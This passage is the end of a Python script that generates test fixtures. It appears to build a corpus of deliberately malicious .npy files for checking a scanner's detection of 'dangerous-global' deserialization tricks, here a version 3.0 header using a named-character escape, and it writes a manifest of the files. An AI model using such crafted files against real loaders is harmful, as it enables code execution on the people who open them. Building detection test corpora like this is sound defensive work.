case2("npy_v3_named_char.npy", "'.npy' version 3.0 whose descr is '\\N{LATIN CAPITAL LETTER O}'", ["dangerous-global"],
      npy_with('{"shape": (1,), "fortran_order": False, "descr": "\\N{LATIN CAPITAL LETTER O}"}', npy_payload("npy_v3_named_char"), version=3))


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    os.makedirs(out, exist_ok=True)
    manifest = []
    for c in CASES:
        with open(os.path.join(out, c["file"]), "wb") as f:
            f.write(c["data"])
        manifest.append({"file": c["file"], "mechanism": c["mechanism"], "expect": c["expect"], "bytes": len(c["data"])})
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"marker_prefix": MARKER, "generator": "generate.py", "files": manifest}, f, indent=1)
        f.write("\n")
    print(f"wrote {len(CASES)} malicious files ({sum(len(c['data']) for c in CASES)} bytes) to {out}")


if __name__ == "__main__":
    main()
